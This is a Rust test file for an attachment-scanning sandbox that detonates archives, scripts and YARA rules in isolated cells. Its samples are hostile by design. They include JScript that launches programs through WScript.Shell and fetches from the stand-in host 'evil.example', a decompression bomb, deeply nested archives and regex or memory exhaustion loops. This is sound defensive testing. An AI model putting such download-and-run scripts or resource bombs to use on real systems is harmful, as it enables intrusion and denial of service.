//! Real workers behind real walls.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::io::Write;
use std::path::PathBuf;
use std::time::Duration;

use postern_model::sandbox::{FindingName, Kind, Report};
use postern_sandbox::cell::{CellError, Cells};
use postern_sandbox::job::Job;
use postern_sandbox::limits::Limits;
use postern_sandbox::yara::{Source, Sources};
use support::documents::{archive as zip, program};
use support::{job, names};

fn cells() -> Cells {
    Cells::new(PathBuf::from(env!("CARGO_BIN_EXE_postern-cell")))
}

/// `None` where no cell can be had.
async fn run(job: Job, content: &[u8]) -> Option<Report> {
    match cells().run(&job, content, None).await {
        Ok(report) => Some(report),
        Err(CellError::Walls(why)) if why.contains("EPERM") || why.contains("ENOSPC") => {
            println!("skipped: {why}");
            None
        }
        Err(error) => panic!("{error}"),
    }
}

fn gzip(content: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    out.write_all(content).unwrap();
    out.finish().unwrap()
}

#[tokio::test]
async fn a_script_in_an_archive_in_an_archive_is_named_with_its_way() {
    let inner = zip(&[("readme.txt", b"hello"), ("invoice.pdf.js", b"var x = new ActiveXObject('WScript.Shell')")], None);
    let Some(report) = run(job("invoice.zip"), &zip(&[("inner.zip", &inner)], None)).await else { return };
    let tree: Vec<_> = report.parts.iter().map(|p| (p.inside, p.name.as_str(), p.kind)).collect();
    assert_eq!(
        tree,
        [
            (None, "invoice.zip", Kind::Zip),
            (Some(0), "inner.zip", Kind::Zip),
            (Some(1), "readme.txt", Kind::Text),
            (Some(1), "invoice.pdf.js", Kind::Text),
        ]
    );
    assert_eq!((names(&report), report.findings[0].part), (vec!["SCRIPT"], 3));
}

#[tokio::test]
async fn a_password_of_the_mail_opens_and_another_one_does_not() {
    let content = zip(&[("run.bat", b"start calc")], Some("s3cret"));
    let with = |words: &[&str]| Job { passwords: words.iter().map(|w| (*w).to_owned()).collect(), ..job("locked.zip") };
    let Some(report) = run(with(&["hello", "s3cret"]), &content).await else { return };
    assert_eq!(names(&report), ["PASSWORD_IN_MAIL", "SCRIPT"]);
    let report = run(with(&["hello"]), &content).await.unwrap();
    assert_eq!((names(&report), report.findings[0].evidence.as_str()), (vec!["ENCRYPTED"], "run.bat"));
}

#[tokio::test]
async fn bombs_end_in_a_finding() {
    let zeros = vec![0_u8; 64 << 20];
    let Some(report) = run(job("bomb.gz"), &gzip(&zeros)).await else { return };
    assert_eq!(names(&report), ["TOO_LARGE"], "1 to 1000");
    let mut nested = b"the end".to_vec();
    for _ in 0..40 {
        nested = gzip(&nested);
    }
    let report = run(job("deep.gz"), &nested).await.unwrap();
    assert_eq!((names(&report), report.parts.len()), (vec!["TOO_DEEP"], 17));
    let many: Vec<(String, &[u8])> = (0..300).map(|n| (format!("{n}.txt"), &b"x"[..])).collect();
    let many: Vec<(&str, &[u8])> = many.iter().map(|(n, c)| (n.as_str(), *c)).collect();
    let limits = Limits { parts: 200, ..Limits::default() };
    let report = run(Job { limits, ..job("many.zip") }, &zip(&many, None)).await.unwrap();
    assert_eq!((names(&report), report.parts.len()), (vec!["TOO_MANY"], 200));
    let limits = Limits { memory: 48 << 20, ratio: 1_000_000, ..Limits::default() };
    let report = run(Job { limits, ..job("memory.gz") }, &gzip(&zeros)).await.unwrap();
    assert_eq!((names(&report), report.findings[0].evidence.as_str()), (vec!["TOO_LARGE"], "it takes more memory than a cell has"));
}

#[tokio::test]
async fn a_worker_that_does_not_end_is_killed() {
    let limits = Limits { time: Duration::from_millis(1), ..Limits::default() };
    let mut large = vec![0_u8; 32 << 20];
    large.iter_mut().enumerate().for_each(|(n, b)| *b = (n as u32).wrapping_mul(2_654_435_761).to_le_bytes()[3]);
    let Some(report) = run(Job { limits, ..job("slow.zip") }, &gzip(&large)).await else { return };
    assert_eq!((names(&report), report.parts.len()), (vec!["CELL_TIMEOUT"], 1));
}

#[tokio::test]
async fn what_is_no_container_costs_nothing_and_what_is_damaged_is_said() {
    let Some(report) = run(job("empty"), b"").await else { return };
    assert_eq!((report.parts.len(), report.findings.len(), report.parts[0].kind), (1, 0, Kind::Unknown));
    let mut torn = zip(&[("a.txt", &[b'x'; 5000])], None);
    torn.truncate(torn.len() - 30);
    assert_eq!(names(&run(job("torn.zip"), &torn).await.unwrap()), ["DAMAGED"]);
    assert_eq!(names(&run(job("photo.jpg"), &program()).await.unwrap()), ["PROGRAM", "TYPE_MISMATCH"]);
}

#[test]
fn names_of_findings_are_unique_and_said_in_words() {
    let mut seen = std::collections::HashSet::new();
    for name in FindingName::ALL {
        assert!(seen.insert(name.name()), "{}", name.name());
        assert!(name.text().len() > 15 && name.text().ends_with('.'), "{}: {}", name.name(), name.text());
    }
}

/// In a real cell: the engine makes no call that is not on the list, and nothing it needs is missing.
#[tokio::test]
async fn a_script_is_run_behind_the_walls() {
    let script = b"WScript.Sleep(60000); var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://evil.example/a', false); x.send(); \
                   new Date(); Math.random(); 'x'.localeCompare('y'); /(a|b)+c/.test('abc'); new ActiveXObject('WScript.Shell').Run('calc.exe')";
    let Some(report) = run(job("a.js"), script).await else { return };
    assert_eq!(report.contacted(), ["evil.example"], "{:?}", report.timeline);
    assert_eq!(names(&report), ["SCRIPT", "SCRIPT_LOADS", "SCRIPT_STARTS", "SCRIPT_WAITS"], "{:?}", report.timeline);
}

/// What no step counter sees ends with the cell, and what was seen before it stays.
#[tokio::test]
async fn a_script_that_takes_its_cell_down_leaves_what_was_seen() {
    let first = "new ActiveXObject('WScript.Shell').Run('calc.exe');";
    let with = |code: &str| zip(&[("run.exe", &program()), ("a.js", format!("{first}{code}").as_bytes())], None);
    let limits = Limits { memory: 256 << 20, scripts: Duration::from_millis(500), ..Limits::default() };
    for (what, code) in [
        ("memory", "var s = 'x'; while (true) s += s + 'y'"),
        ("memory in an array", "var a = []; while (true) a.push(new Array(100000).join('x' + a.length))"),
        ("steps within eval", "eval('function f(n) { return n < 2 ? n : f(n - 1) + f(n - 2) } f(60)')"),
        ("an expression for ever", "/(a+)+$/.test(new Array(40).join('a') + 'b')"),
    ] {
        let began = std::time::Instant::now();
        let Some(report) = run(Job { limits: limits.clone(), ..job("a.zip") }, &with(code)).await else { return };
        let found = names(&report);
        assert!(
            ["PROGRAM", "SCRIPT", "SCRIPT_STARTS", "SCRIPT_STOPPED"].iter().all(|n| found.contains(n)),
            "{what}: {found:?} {:?}",
            report.timeline
        );
        assert_eq!(report.parts.len(), 3, "{what}");
        assert!(began.elapsed() < Duration::from_secs(15), "{what}: {:?}", began.elapsed());
        println!("{what}: {:?}", began.elapsed());
    }
    let off = Limits { scripts: Duration::ZERO, ..Limits::default() };
    let report = run(Job { limits: off, ..job("a.zip") }, &with("")).await.unwrap();
    assert!(report.timeline.is_empty() && !names(&report).contains(&"SCRIPT_STARTS"));
}

/// Texts that are put together from thousands of pieces, and statements within statements: deep trees for the engine.
#[tokio::test]
async fn long_sums_are_run_and_what_is_too_deep_leaves_the_rest() {
    let start = "new ActiveXObject('WScript.Shell').Run(c)";
    let sum = format!("var c = {}'.exe'; {start}", "'' + ".repeat(20_000));
    let choices = format!("var a = 1; var c = 'x'; {} {{}} {start}", "if (a == 0) {} else ".repeat(1_000));
    for (what, script) in [("a sum", sum), ("choices", choices)] {
        let Some(report) = run(job("a.js"), script.as_bytes()).await else { return };
        assert!(names(&report).contains(&"SCRIPT_STARTS"), "{what}: {:?} {:?}", names(&report), report.timeline.last());
    }
    for (what, script) in [
        ("choices", "a?b:".repeat(500_000)),
        ("functions", "a=>".repeat(500_000)),
        ("statements", "if(a)".repeat(500_000)),
        ("a sum", format!("{}1", "1+".repeat(1_000_000))),
    ] {
        let content = zip(&[("run.exe", &program()), ("a.js", script.as_bytes())], None);
        let Some(report) = run(job("a.zip"), &content).await else { return };
        assert!(names(&report).contains(&"PROGRAM") && report.parts.len() == 3, "{what}: {:?}", names(&report));
        println!("{what}: {:?}", report.findings.last());
    }
}

fn rules(text: &str) -> Sources {
    Sources::new(&[Source { file: "a.yar".into(), text: text.as_bytes().to_vec() }]).unwrap()
}

/// In real cells: one compiles, the others make no call that is not on the list, with the least memory that a cell may have.
#[tokio::test]
async fn rules_look_at_every_part_behind_the_walls() {
    let text = "import \"math\" rule a : suspicious { strings: $a = /ne{2}dle/ condition: $a and math.entropy(0, filesize) < 7 }";
    let (rules, told) = match cells().compile(&rules(text)).await {
        Err(CellError::Walls(why)) if why.contains("EPERM") || why.contains("ENOSPC") => return println!("skipped: {why}"),
        compiled => compiled.unwrap(),
    };
    assert!(told.is_usable() && told.theirs == 1 && told.ours > 10, "{told:?}");
    let rules = rules.unwrap();
    let content =
        zip(&[("inner.zip", &zip(&[("deep.txt", b"a needle")], None)), ("b.js", b"var a = 'no needle' + eval('\"ne\" + \"edle\"')")], None);
    let limits = Limits { memory: 48 << 20, ..Limits::default() };
    let report = cells().run(&Job { limits, ..job("a.zip") }, &content, Some(&rules)).await.unwrap();
    let found: Vec<_> = report.findings.iter().filter(|f| f.name == FindingName::YaraSuspicious).map(|f| report.path(f.part)).collect();
    assert_eq!(found, ["a.zip/b.js", "a.zip/inner.zip/deep.txt"], "{:?}", report.findings);
    assert!(report.findings.iter().any(|f| f.evidence == "a:a [suspicious], $a at 2"), "{:?}", report.findings);
    let mut packed = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    packed.write_all(b"1 0 << /S /GoTo /D (a needle) >>").unwrap();
    let head = &b"%PDF-1.5\n1 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\n"[..];
    let pdf = [head, &packed.finish().unwrap(), b"\nendstream endobj\n%%EOF"].concat();
    let report = cells().run(&job("a.pdf"), &pdf, Some(&rules)).await.unwrap();
    assert!(names(&report).contains(&"YARA_SUSPICIOUS"), "{:?}", report.findings);
    // The same rules again, two at a time: each cell reads them from their beginning.
    let again = || async { cells().run(&job("a.pdf"), &pdf, Some(&rules)).await.unwrap().findings.len() };
    assert_eq!(tokio::join!(again(), again()), (report.findings.len(), report.findings.len()));
    let off = Limits { yara: Duration::ZERO, ..Limits::default() };
    let report = cells().run(&Job { limits: off, ..job("a.zip") }, &content, Some(&rules)).await.unwrap();
    assert!(!names(&report).contains(&"YARA_SUSPICIOUS"));
}

/// A rule that goes on for ever costs its own time and no finding of the others.
#[tokio::test]
async fn an_endless_rule_is_ended_and_the_rest_stays() {
    let text = "rule a { condition: for all i in (0..filesize - 1) : ( for all j in (0..filesize - 1) : ( uint8(i) + uint8(j) + i + j != 1000000000 ) ) }";
    let (rules, _) = match cells().compile(&rules(text)).await {
        Err(CellError::Walls(why)) if why.contains("EPERM") || why.contains("ENOSPC") => return println!("skipped: {why}"),
        compiled => compiled.unwrap(),
    };
    let content = zip(&[("large.bin", &vec![7; 4 << 20]), ("run.exe", &program())], None);
    let began = std::time::Instant::now();
    let report = cells().run(&job("a.zip"), &content, rules.as_ref()).await.unwrap();
    assert!(names(&report).contains(&"YARA_STOPPED") && names(&report).contains(&"PROGRAM"), "{:?}", report.findings);
    assert!(began.elapsed() < Duration::from_secs(20), "{:?}", began.elapsed());
}
